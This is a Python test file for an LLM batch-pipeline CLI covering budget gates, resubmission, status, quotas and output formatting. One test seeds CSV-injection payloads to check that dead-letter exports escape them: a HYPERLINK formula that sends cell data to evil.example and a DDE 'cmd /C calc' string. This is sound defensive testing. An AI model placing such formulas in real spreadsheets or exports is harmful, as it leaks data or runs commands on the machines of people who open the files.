"""The `llm-assets` command as scripts use it: a real subprocess, a persistent instance."""

import csv
import datetime as dt
import io
import json
import os
import subprocess
from pathlib import Path

import dagster as dg
import pytest
import yaml
from dagster._core.instance.ref import InstanceRef

from llm_assets.cli.console import console, stream_width
from llm_assets.cli.day_report import print_status
from llm_assets.cli.text import count_words, home_relative, short_forms, usd
from llm_assets.demo.data import generate_demo_data
from llm_assets.resources.ledger import DEAD_LETTER, LedgerResource
from llm_assets.util.settings import REPO_ROOT
from tests import cli_process
from tests.harness import CLI
from tests.ledger_helpers import set_item_status

# One database: these tests drive the CLI as a subprocess; the ledger tests and the pipeline
# tests compare SQLite and PostgreSQL.
pytestmark = [pytest.mark.slow, pytest.mark.one_database]
DAY = dt.date(2026, 11, 2)


class Env:
    def __init__(self, tmp_path: Path, database_url: str) -> None:
        self.home = tmp_path / "home"
        self.specs = tmp_path / "specs"
        self.specs.mkdir()
        spec = yaml.safe_load((REPO_ROOT / "pipelines" / "support_tickets.yaml").read_text())
        spec["budget"]["max_usd_per_partition"] = 0.01
        (self.specs / "support_tickets.yaml").write_text(yaml.safe_dump(spec))
        # Price the local model so the budget gate and cost attribution have numbers to check.
        self.prices = tmp_path / "prices.yaml"
        self.prices.write_text(
            yaml.safe_dump(
                {
                    "prices_as_of": "2026-11-01",
                    "models": [
                        {
                            "provider": "local",
                            "name": "all-MiniLM-L6-v2",
                            "input_per_mtok": 100.0,
                            "output_per_mtok": 200.0,
                            "batch_discount": 0.5,
                            "context_window": 8192,
                        }
                    ],
                }
            )
        )
        self.generated = generate_demo_data(
            self.home / "demo", start=DAY, days=1, tickets_per_day=12
        )
        self.database_url = database_url
        self.vars = {
            **os.environ,
            "LLM_ASSETS_HOME": str(self.home),
            "LLM_ASSETS_DATABASE_URL": database_url,
            "LLM_ASSETS_PIPELINES": str(self.specs),
            "LLM_ASSETS_PRICES": str(self.prices),
            "DAGSTER_HOME": str(tmp_path / "dagster"),
        }

    def run(self, *args: str) -> subprocess.CompletedProcess[str]:
        return cli_process.run(
            [CLI, *args], env=self.vars, capture_output=True, text=True, timeout=600, check=False
        )


@pytest.fixture
def env(tmp_path: Path, database_url: str) -> Env:
    return Env(tmp_path, database_url)


def test_budget_gate_blocks_with_exit_2_then_approval_runs_the_day(env: Env) -> None:
    blocked = env.run("run", "support_tickets", "--date", DAY.isoformat(), "--wait")
    assert blocked.returncode == 2, blocked.stderr
    assert "budget gate" in blocked.stderr
    assert "max_usd_per_partition" in blocked.stderr
    status = json.loads(
        env.run("status", "support_tickets", "--date", DAY.isoformat(), "--json").stdout
    )
    assert all(s["provider_batch_id"] is None for s in status["jobs"][0]["shards"])

    done = env.run(
        "run", "support_tickets", "--date", DAY.isoformat(), "--wait", "--approve-budget", "--json"
    )
    assert done.returncode == 0, done.stderr
    [outcome] = json.loads(done.stdout)
    rows = len(env.generated.files[0].read_text().splitlines())
    assert outcome["total"] == rows
    assert outcome["open_items"] == 0
    assert outcome["succeeded"] + outcome["dead_letters"] == rows
    assert outcome["dead_letters_by_class"] == {"input": 5}
    expected_cost = (outcome["input_tokens"] * 100 + outcome["output_tokens"] * 200) * 0.5 / 1e6
    assert outcome["cost_usd"] == pytest.approx(expected_cost)
    assert outcome["cost_usd"] > 0

    status = json.loads(
        env.run("status", "support_tickets", "--date", DAY.isoformat(), "--json").stdout
    )
    [job] = status["jobs"]
    assert job["status"] == "completed"
    assert job["items"] == rows
    assert job["by_status"] == {"succeeded": outcome["succeeded"], "dead_letter": 5}
    assert all(s["status"] == "imported" for s in job["shards"])

    instance = dg.DagsterInstance.from_ref(InstanceRef.from_dir(env.vars["DAGSTER_HOME"]))
    runs = instance.get_runs()
    assert len(runs) >= 3  # the refused build, the approved one, the import that finishes
    # Each run is one of the pipeline's named jobs, not an ephemeral one.
    assert {r.job_name for r in runs} == {"support_tickets__submit", "support_tickets__import"}
    assert any(r.is_success for r in runs)
    assert any(r.is_failure for r in runs)


def test_run_without_wait_submits_and_a_second_run_sends_nothing_new(env: Env) -> None:
    first = env.run(
        "run", "support_tickets", "--date", DAY.isoformat(), "--approve-budget", "--json"
    )
    assert first.returncode == 0, first.stderr
    status = json.loads(
        env.run("status", "support_tickets", "--date", DAY.isoformat(), "--json").stdout
    )
    batches = [s["provider_batch_id"] for s in status["jobs"][0]["shards"]]
    assert batches and all(batches)

    again = env.run(
        "run", "support_tickets", "--date", DAY.isoformat(), "--wait", "--approve-budget", "--json"
    )
    assert again.returncode == 0, again.stderr
    status = json.loads(
        env.run("status", "support_tickets", "--date", DAY.isoformat(), "--json").stdout
    )
    assert [s["provider_batch_id"] for s in status["jobs"][0]["shards"]] == batches
    batch_dirs = list((env.home / "local_provider" / "batches").iterdir())
    assert len(batch_dirs) == len(batches)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("run", "nope", "--date", "2026-11-02"), "no pipeline 'nope'"),
        (("run", "support_tickets", "--date", "2026-13-01"), "not a date"),
        (("run", "support_tickets", "--date", "2020-01-01"), "not a partition"),
        (("run", "support_tickets", "--date", "2026-11-03", "--to", "2026-11-02"), "before"),
    ],
)
def test_bad_arguments_exit_1_with_the_reason(
    env: Env, args: tuple[str, ...], message: str
) -> None:
    result = env.run(*args)

    assert result.returncode == 1
    assert message in result.stderr


def test_status_of_an_untouched_day_says_so(env: Env) -> None:
    result = env.run("status", "support_tickets", "--date", "2026-11-05")

    assert result.returncode == 0
    assert "nothing has run" in result.stdout


def test_dead_letter_csv_cells_never_run_as_spreadsheet_formulas(env: Env) -> None:
    """A cell starting with =, +, -, @, a tab or a carriage return gets a single quote before
    it (OWASP, CSV injection); the reasons come from providers and source data."""
    day = ("--date", DAY.isoformat())
    ran = env.run("run", "support_tickets", *day, "--approve-budget", "--json")
    assert ran.returncode == 0, ran.stderr
    dead = json.loads(env.run("dead-letter", "support_tickets", *day, "--json").stdout)
    reasons = [
        '=HYPERLINK("http://evil.example/?"&A1,"details")',
        "+1+cmd|' /C calc'!A0",
        "\rcarriage return",
        "@SUM(A1:A9)",
        "\tindented",
    ]
    assert len(dead) == len(reasons)
    [job] = json.loads(env.run("status", "support_tickets", *day, "--json").stdout)["jobs"]
    ledger = LedgerResource(database_url=env.database_url)
    for row, reason in zip(dead, reasons, strict=True):
        moved = set_item_status(
            ledger,
            job["job_id"],
            [row["custom_id"]],
            from_status=[DEAD_LETTER],
            error_message=reason,
            source_id=f"-{row['source_id']}",
        )
        assert moved == 1

    # As bytes: text mode would turn the carriage return into a newline.
    listed = cli_process.run(
        [CLI, "dead-letter", "support_tickets", *day, "--csv"],
        env=env.vars,
        capture_output=True,
        timeout=600,
        check=False,
    )

    assert listed.returncode == 0, listed.stderr
    # Listed by source id, which the renaming above changed: rows are matched by custom_id.
    rows = {
        r["custom_id"]: r for r in csv.DictReader(io.StringIO(listed.stdout.decode(), newline=""))
    }
    assert len(rows) == len(dead)
    for d, reason in zip(dead, reasons, strict=True):
        assert rows[d["custom_id"]]["error_message"] == f"'{reason}"
        assert rows[d["custom_id"]]["source_id"] == f"'-{d['source_id']}"
        assert rows[d["custom_id"]]["attempts"] == str(d["attempts"])


def test_short_forms_tell_every_row_apart() -> None:
    job = "support-tickets-20261102-805ab3a2ee"
    shards = [f"{job}-r00-s{n:05d}" for n in range(3)] + [f"{job}-r01-s00000"]
    batches = ["batch_abcdef123456", "batch_abcdef999999", "batch_zz", "batch_zz_1"]

    assert short_forms(shards, job_id=job) == {
        shards[0]: "r00-s00000",
        shards[1]: "r00-s00001",
        shards[2]: "r00-s00002",
        shards[3]: "r01-s00000",
    }
    # Other ids are never cut to a prefix: a cut id cannot be pasted into a command.
    assert short_forms(batches, job_id=job) == {b: b for b in batches}


def test_paths_under_the_home_are_shown_relative_to_it() -> None:
    home = Path("/home/x/.llm_assets")

    assert home_relative(f"{home}/demo/a.jsonl:3: bad", home) == "demo/a.jsonl:3: bad"
    assert (
        home_relative(f"{home}/a.jsonl:10: id 'A' already seen at {home}/a.jsonl:3", home)
        == "a.jsonl:10: id 'A' already seen at a.jsonl:3"
    )
    for kept in (f"file://{home}/a", f"{home}2/a", f"/srv{home}/a", f"see {home}"):
        assert home_relative(kept, home) == kept


def test_counts_read_as_words() -> None:
    words = count_words(
        {"pending": 3, "dead_letter": 5, "succeeded": 120, "retry": 1},
        {"deterministic": 1, "quality": 4},
    )

    assert words == (
        "120 succeeded, 5 dead letters (4 quality, 1 deterministic), 1 waiting for a retry, "
        "3 pending"
    )
    assert count_words({"dead_letter": 1}, {"input": 1}) == "1 dead letter (1 input)"
    assert count_words({}, {}) == "no items"
    assert (usd(0), usd(1.23456), usd(0.0000123)) == ("$0.0000", "$1.2346", "$1.2e-05")


def test_width_off_a_terminal_is_columns_else_80() -> None:
    assert stream_width(io.StringIO(), {"COLUMNS": "132"}) == 132
    assert stream_width(io.StringIO(), {"COLUMNS": "wide"}) == 80
    assert stream_width(io.StringIO(), {}) == 80


def test_status_names_the_gate_that_blocks_the_day_first() -> None:
    blocked = "publication blocked by quality_failure_rate (25.8% > 5.0%)"

    with console.capture() as captured:
        print_status("support_tickets", DAY, [], blocked=blocked)

    assert " ".join(captured.get().split()) == (
        f"support_tickets {DAY}: {blocked} "
        f"support_tickets {DAY}: nothing has run for this partition yet"
    )


def test_quotas_shows_what_was_learned_and_reset_forgets_it(env: Env) -> None:
    from llm_assets.resources.ledger import QuotaKey, utcnow
    from llm_assets.steps import quota

    spec = yaml.safe_load((env.specs / "support_tickets.yaml").read_text())
    model = spec["model"]["name"]
    ledger = LedgerResource(database_url=env.database_url)
    key = QuotaKey(provider="local", account="default", model_name=model, kind=quota.BATCHES)
    ledger.learn_quota(
        key, lambda r: quota.after_refusal(r, load=3, amount=1, stated=None, now=utcnow())
    )

    shown = env.run("quotas", "support_tickets")
    assert shown.returncode == 0, shown.stderr
    words = " ".join(shown.stdout.split())  # cells wrap at the console's width
    assert model in words and "~3" in words and "from 1 refusal" in words
    [row] = json.loads(env.run("quotas", "support_tickets", "--json").stdout)
    assert (row["limit"], row["refusals"], row["kind"]) == ("~3", 1, "batches")

    reset = env.run("quotas", "support_tickets", "--reset")
    assert reset.returncode == 0 and "forgot 1 learned quota" in reset.stdout
    assert ledger.quota_record(key).learned_limit is None
    assert "no quota learned yet" in env.run("quotas", "support_tickets").stdout
